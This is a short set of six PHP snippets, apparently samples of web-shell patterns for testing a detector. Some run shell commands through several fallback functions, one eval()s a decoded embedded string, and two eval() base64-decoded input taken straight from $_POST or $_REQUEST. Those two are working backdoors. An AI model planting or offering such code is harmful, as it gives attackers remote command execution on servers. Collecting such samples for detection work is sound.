<?php function r($c) { if (function_exists('x')) { return Shell_Exec($c); } ob_start(); PassThru($c); $h = POpen($c, 'r'); return fread($h, 9); } ?>
<?php function r($c) { $o = shell_exec ($c); if (!$o) { passthru ($c); } if (!$o) { System ($c); } } ?>
<?php function r($c) { $o = shell_exec($c); if (!$o) passthru($c); $p = proc_open($c, array(), $pipes); } ?>
<?php $d = 'Z2l2ZQ=='; $k = gzInflate( base64_decode( $d ) ); /* later */ EVAL ( $k ); ?>
<?php $p = Base64_Decode( $_POST [ 'p' ] ); $f = 'x'; @eval($p); ?>
<?php $p = base64_decode($_REQUEST['p']); if ($p) { eval( $p ); } ?>
